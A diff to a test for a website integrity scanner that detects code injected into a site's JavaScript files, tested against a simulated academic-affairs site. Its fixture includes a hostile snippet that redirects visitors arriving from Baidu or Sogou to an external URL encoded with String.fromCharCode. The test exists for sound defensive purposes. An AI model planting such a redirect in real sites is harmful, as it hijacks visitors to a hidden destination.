@@ -17,16 +17,28 @@ const MENU = 'window.onload = function () { document.getElementById("nav").class
 const INTRUDERS =
   'if (/baidu|sogou/i.test(document.referrer)) { location.href = String.fromCharCode(104,116,116,112,58,47,47,106,110,122,115,103,115,46,99,111,109,47); }\n';
 
+const ARTICLES = ['/info/1001/1.htm', '/info/1001/2.htm', '/info/1002/3.htm'];
+const LIST = ARTICLES.map((path) => `<a href="${path}">通知</a>`).join('');
+
 it('finds what an intruder adds to a script file, though no page has changed', async () => {
   let script = MENU;
-  const server = createServer(({ url, headers }, response) => {
-    if (url === '/js/menu.js') return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
-    if (url !== '/' && url !== '/about.htm') return void response.writeHead(404).end();
+  let visits = 30_125;
+  let unchanged: string[] = [];
+  const server = createServer(({ url = '', headers }, response) => {
+    const type = { 'content-type': 'text/javascript' };
+    if (url === '/js/article.js') return void response.writeHead(200, type).end(script);
+    // As counters do, another answer every time.
+    if (url === '/js/counter.js')
+      return void response.writeHead(200, type).end(`document.write("<b>${visits++}</b>");`);
+    if (url !== '/' && !ARTICLES.includes(url)) return void response.writeHead(404).end();
     const etag = '"same"';
-    if (headers['if-none-match'] === etag) return void response.writeHead(304, { etag }).end();
+    if (headers['if-none-match'] === etag) {
+      unchanged.push(url);
+      return void response.writeHead(304, { etag }).end();
+    }
     response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', etag });
     response.end(
-      `<title>教务处</title><script src="/js/menu.js"></script><p id="nav">欢迎访问教务处网站。<a href="/about.htm">部门简介</a></p>`,
+      `<title>教务处</title><script src="/js/counter.js"></script><p id="nav">欢迎访问教务处网站。${LIST}</p>${url === '/' ? '' : '<script src="/js/article.js"></script>'}`,
     );
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
@@ -36,14 +48,22 @@ network: { allowPrivate: ["127.0.0.0/8"], hostInterval: 0, retryAfter: 100ms }
 `;
   await writeFile(join(folder, 'webpatrol.yaml'), config);
   const scan = async () => {
+    unchanged = [];
     const { stdout } = await runProgram(['scan', '--format', 'json', '--only', 'injected-content'], { cwd: folder });
     return (JSON.parse(stdout) as JsonReport).findings;
   };
   try {
     expect(await scan()).toEqual([]);
+    expect(await scan()).toEqual([]);
+    expect(unchanged).toHaveLength(ARTICLES.length - 1);
     script = MENU + INTRUDERS;
     expect(await scan()).toMatchObject([
-      { check: 'injected-content', status: 'new', evidence: { file: `http://127.0.0.1:${port}/js/menu.js`, line: 2 } },
+      {
+        check: 'injected-content',
+        status: 'new',
+        occurrences: ARTICLES.length,
+        evidence: { file: `http://127.0.0.1:${port}/js/article.js`, line: 2 },
+      },
     ]);
     script = MENU;
     expect(await scan()).toEqual([]);
